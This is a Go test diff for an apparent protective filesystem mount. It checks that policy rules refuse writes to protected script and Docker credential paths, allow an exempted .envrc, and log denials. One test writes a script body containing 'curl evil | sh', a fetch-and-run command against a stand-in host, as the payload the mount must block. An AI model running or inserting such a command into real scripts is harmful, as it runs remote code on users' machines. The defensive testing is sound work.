@@ -292,3 +292,27 @@ func TestPlantGitStillWorks(t *testing.T) {
 	}
 	assertAbsent(t, m.BackingPath("clone", ".git", "hooks", "pre-commit"))
 }
+
+// TestProtectPolicy: a policy's protect.paths adds write-refused globs and
+// protect.allow exempts built-in ones; reading stays allowed either way.
+func TestProtectPolicy(t *testing.T) {
+	t.Parallel()
+	pol := writePolicy(t, "version: 1\nprotect:\n  paths: ['tools/*.sh']\n  allow: ['**/.envrc']\n")
+	m := mount(t, Flags("--policy", pol), Prepare(func(m *Mount) {
+		writeFile(t, m.BackingPath("tools", "run.sh"), "#!/bin/sh\n")
+	}))
+	err := os.WriteFile(m.Path("tools", "run.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
+	wantErrno(t, err, unix.EACCES, "write of tools/run.sh, protected by the policy")
+	wantRead(t, m.Path("tools", "run.sh"), "#!/bin/sh\n", "cat tools/run.sh")
+	if err := os.WriteFile(m.Path(".envrc"), []byte("export A=1\n"), 0o644); err != nil {
+		t.Errorf("write of .envrc, exempted by the policy: %v", err)
+	}
+	if err := os.Mkdir(m.Path(".docker"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	err = os.WriteFile(m.Path(".docker", "config.json"), []byte("{}"), 0o644)
+	wantErrno(t, err, unix.EACCES, "write of .docker/config.json, still protected by the built-in set")
+	m.WaitAudit("tools/run.sh", func(e auditEntry) bool {
+		return e.path() == "tools/run.sh" && e.str("code") == "PROTECTED_PATH_DENIED"
+	})
+}
